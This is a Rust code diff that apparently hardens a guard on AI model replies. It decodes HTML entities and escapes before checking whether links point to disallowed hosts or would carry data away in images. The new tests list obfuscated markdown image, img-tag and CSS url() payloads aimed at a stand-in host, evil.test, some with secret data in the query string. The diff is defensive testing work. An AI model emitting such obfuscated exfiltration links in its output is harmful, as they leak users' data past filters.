@@ -1,10 +1,11 @@
 //! The guards on a call's way out: what a reply holds that it should not, or lacks.
 
-use std::{ops::Range, sync::LazyLock};
+use std::{collections::BTreeSet, ops::Range, sync::LazyLock};
 
 use super::{
     canary::Canary,
-    links::{Link, links},
+    links::links,
+    reading::readings,
     verdict::{Verdict, excerpt},
 };
 use crate::{
@@ -80,21 +81,24 @@ fn output(reply: &Reply<'_>, guards: &Guards, verdict: &mut Verdict) {
     );
 }
 
-/// Links to hosts that are not allowed, and images that would carry data away. What the prompt
-/// itself names may be named back.
+/// Links to hosts that are not allowed, and images that would carry data away, in whichever way
+/// the text is read. What the prompt itself names may be named back.
 fn leading_away(part: &str, messages: &[Message], guards: &Guards) -> Vec<String> {
-    let known = |link: &Link<'_>| {
-        let address = part.get(link.range.clone()).unwrap_or_default();
-        messages.iter().any(|message| message.content.contains(address))
-    };
     let mut found = Vec::new();
-    for link in links(part) {
-        let address = || excerpt(part.get(link.range.clone()).unwrap_or_default());
-        let foreign = guards.allowed_hosts.as_ref().is_some_and(|hosts| !link.is_of(hosts));
-        if foreign {
-            found.push(format!("a link to a host that is not allowed: {}", address()));
-        } else if guards.allowed_hosts.is_none() && link.carries() && !known(&link) {
-            found.push(format!("an image that would carry data to {}", address()));
+    let mut told = BTreeSet::new();
+    for reading in readings(part) {
+        for link in links(&reading.text) {
+            let range = reading.origin(&link.range);
+            let address = part.get(range.clone()).unwrap_or_default();
+            let known = || messages.iter().any(|message| message.content.contains(address));
+            let what = match &guards.allowed_hosts {
+                Some(hosts) if !link.is_of(hosts) => "a link to a host that is not allowed:",
+                None if link.carries() && !known() => "an image that would carry data to",
+                _ => continue,
+            };
+            if told.insert(range.start) {
+                found.push(format!("{what} {}", excerpt(address)));
+            }
         }
     }
     found
@@ -192,6 +196,41 @@ mod tests {
         assert!(
             look("see https://any.test/a?b=cdefghijk", "", &blocking(), None).blocked.is_none()
         );
+    }
+
+    #[test]
+    fn links_are_read_with_their_references_and_escapes() {
+        let allowed_hosts = Some(vec!["example.com".to_owned()]);
+        let guards = Guards { allowed_hosts, ..blocking() };
+        for text in [
+            "![x](&#104;ttps://evil.test/x?d=secret)",
+            "![x](https:&#47;/evil.test/x?d=s)",
+            "![x](https\\://evil.test/x)",
+            "![x](https://example.com\\@evil.test/x)",
+            "![x](ht&Tab;tps&colon;&sol;&bsol;evil.test/x)",
+            "<img src=\"&#x00068;ttps://evil.test/x\">",
+            "<img src=\"&#104ttps&colon;//evil.test/x\">",
+            "<img src=\"&NewLine;/&NewLine;/evil.test/x\">",
+            "<img src='https://example.com&commat;evil&period;test/x'>",
+            "<img src='https://evil.test&num;.example.com/x'>",
+            "<img src='https://evil.test&sol;.example.com/x'>",
+            "<p style='background:url&lpar;&quot;//evil.test/x&quot;)'>",
+        ] {
+            let found = look(text, "", &guards, None).blocked.map(|blocked| blocked.found);
+            let found = found.unwrap_or_else(|| panic!("{text}"));
+            assert_eq!(found.matches("a link to a host").count(), 1, "{found}");
+            assert!(found.contains("evil"), "{found}");
+        }
+        for text in [
+            "![x](&#104;ttps://example.com/x?a=1&amp;b=2)",
+            "[x](https\\://docs.example.com/a\\_b)",
+            "`&lt;img src=x&gt;` & `\\/\\/` \\(a\\)",
+        ] {
+            assert!(look(text, "", &guards, None).blocked.is_none(), "{text}");
+        }
+        let carrying = "<img src='https&colon;//evil.test/p?d=c2VjcmV0IGRhdGE'>";
+        assert!(look(carrying, "", &blocking(), None).blocked.is_some());
+        assert!(look(carrying, carrying, &blocking(), None).blocked.is_none(), "in the prompt");
     }
 
     #[test]
